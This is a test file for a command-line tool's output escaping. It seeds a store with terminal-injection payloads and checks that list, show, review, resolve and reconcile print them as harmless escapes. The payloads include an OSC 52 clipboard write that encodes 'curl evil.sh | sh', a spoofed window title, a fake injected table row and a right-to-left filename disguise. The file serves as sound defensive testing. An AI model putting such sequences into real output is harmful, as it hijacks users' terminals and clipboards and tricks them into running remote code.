/**
 * Nothing read from a store can drive the terminal: keys come from models, and a key holding an OSC 52
 * clipboard write, a window title or `\r` plus a fake row must reach the screen as visible escapes.
 * `--json` keeps every value exact. In this process, on a SQLite store seeded with such records.
 */
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { printable, printableLine, terminalJson } from "../src/cli/output.js";
import { sqliteStore } from "../src/sqlite/index.js";
import { cli } from "./fixtures/cli-binary.js";
import { seedRecord } from "./fixtures/reconcile-seed.js";

const hooks = join(import.meta.dirname, "fixtures", "reconcile-hooks.mjs");

const clipboard = "turn-1\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
const title = "turn-2\u001b]0;you have been pwned\u0007";
const fakeRow = "turn-3\rdefault  turn-9-fake  send_email  completed";
const reversed = "turn-4\u202egnp.exe";
const c1 = "turn-5\u009b2J";
const scope = "tenant\u001b[2J";
const tool = "send\u001b[8memail";

/** Any character a terminal acts on, other than the newlines between lines. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
const raw = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

let url = "";
beforeAll(async () => {
  const path = join(mkdtempSync(join(tmpdir(), "idempotool-cli-escapes-")), "records.db");
  const store = sqliteStore({ path });
  const now = Date.now();
  await seedRecord(store, { key: clipboard, status: "completed", now });
  await seedRecord(store, { key: title, status: "unknown", now });
  await seedRecord(store, { key: fakeRow, status: "failed", now });
  await seedRecord(store, { key: reversed, status: "in_progress", now: now - 120_000, leaseMs: 1_000 });
  await seedRecord(store, { key: c1, scope, tool, status: "completed", now });
  await store.close();
  url = `sqlite://${path}`;
});

describe("store text on the terminal", () => {
  it("inspect list escapes control characters in keys, scopes and tool names", async () => {
    const { code, stdout, stderr } = await cli(["inspect", "list", "--store", url]);
    expect(code, stderr).toBe(0);
    expect(stdout + stderr).not.toMatch(raw);
    expect(stdout).toContain("turn-1\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007");
    expect(stdout).toContain("turn-3\\rdefault  turn-9-fake");
    expect(stdout).toContain("turn-4\\u202egnp.exe");
    expect(stdout).toContain("tenant\\u001b[2J");
    // One header, one rule, five records, one count: the fake row is not a row.
    expect(stdout.trimEnd().split("\n")).toHaveLength(8);
  });

  it("keeps only its own colour codes on a colour terminal", async () => {
    const { stdout } = await cli(["inspect", "list", "--store", url], { env: { FORCE_COLOR: "1" } });
    // biome-ignore lint/suspicious/noControlCharactersInRegex: removing SGR codes is the point.
    const withoutColour = stdout.replace(/\u001b\[\d+m/g, "");
    expect(withoutColour).not.toMatch(raw);
    expect(stdout).not.toContain("\u001b[2J");
  });

  it("inspect show escapes the record, and its result, field by field", async () => {
    for (const [s, k] of [
      ["default", clipboard],
      ["default", title],
      [scope, c1],
    ] as const) {
      const { code, stdout, stderr } = await cli(["inspect", "show", s, k, "--store", url]);
      expect(code, stderr).toBe(0);
      expect(stdout + stderr, JSON.stringify(k)).not.toMatch(raw);
    }
    const missing = await cli(["inspect", "show", "default", `${title}-gone`, "--store", url]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).not.toMatch(raw);
  });

  it("--json stays exact JSON, every value as stored", async () => {
    const { stdout } = await cli(["inspect", "list", "--store", url, "--json"]);
    expect(stdout).not.toMatch(raw);
    const records = JSON.parse(stdout) as { scope: string; key: string; tool: string }[];
    expect(records.map((r) => r.key).sort()).toEqual([clipboard, title, fakeRow, reversed, c1].sort());
    expect(records.find((r) => r.key === c1)).toMatchObject({ scope, tool });
    const shown = await cli(["inspect", "show", scope, c1, "--store", url, "--json"]);
    expect(JSON.parse(shown.stdout)).toMatchObject({ scope, key: c1, tool });
  });

  it("reconcile escapes keys in its table and its progress lines", async () => {
    const { stdout, stderr } = await cli(["reconcile", "--store", url, "--hooks", hooks]);
    expect(stdout).toContain("turn-4\\u202egnp.exe");
    expect(stderr).toContain("reconcile (dry run): default/turn-4\\u202egnp.exe (send_email)");
    expect(stdout + stderr).not.toMatch(raw);
  });
});

describe("records that need a person, on the terminal", () => {
  it("review, resolve and the trail in inspect show escape keys, scopes, tools, evidence and names", async () => {
    const path = join(mkdtempSync(join(tmpdir(), "idempotool-cli-escapes-review-")), "records.db");
    const store = sqliteStore({ path });
    await seedRecord(store, { key: title, scope, tool, status: "unknown", now: Date.now() });
    await store.close();
    const reviewUrl = `sqlite://${path}`;
    const review = await cli(["review", "--store", reviewUrl]);
    expect(review.code, review.stderr).toBe(1);
    expect(review.stdout + review.stderr).not.toMatch(raw);
    expect(review.stdout).toContain("turn-2\\u001b]0;you have been pwned\\u0007");
    const resolved = await cli([
      "resolve",
      scope,
      title,
      "--store",
      reviewUrl,
      "--as",
      "completed",
      "--result",
      "{}",
      "--evidence",
      fakeRow,
      "--by",
      clipboard,
    ]);
    expect(resolved.code, resolved.stderr).toBe(0);
    expect(resolved.stdout + resolved.stderr).not.toMatch(raw);
    const show = await cli(["inspect", "show", scope, title, "--store", reviewUrl]);
    expect(show.stdout + show.stderr).not.toMatch(raw);
    expect(show.stdout).toContain("    evidence: turn-3\\rdefault  turn-9-fake");
    expect(show.stdout).toContain("turn-1\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007  as completed");
  });
});

describe("printable", () => {
  it("escapes C0, DEL, C1 and bidi controls, and leaves other text alone", () => {
    expect(printable("a\u0000b\u007fc\u0085d\u200fe\u2067f\tg\nh")).toBe(
      "a\\u0000b\\u007fc\\u0085d\\u200fe\\u2067f\\tg\\nh",
    );
    expect(printable("ünïcödé 日本 🎉 \\ plain")).toBe("ünïcödé 日本 🎉 \\ plain");
  });

  it("printableLine keeps our colour codes and escapes the rest", () => {
    expect(printableLine("\u001b[31mFAIL\u001b[39m x\u001b]0;t\u0007")).toBe(
      "\u001b[31mFAIL\u001b[39m x\\u001b]0;t\\u0007",
    );
  });

  it("terminalJson writes the same value with the raw controls escaped", () => {
    const value = { key: "a\u202eb\u009bc\u001b", nested: ["\u2028"] };
    const text = terminalJson(value);
    expect(text).not.toMatch(raw);
    expect(JSON.parse(text)).toEqual(value);
  });
});
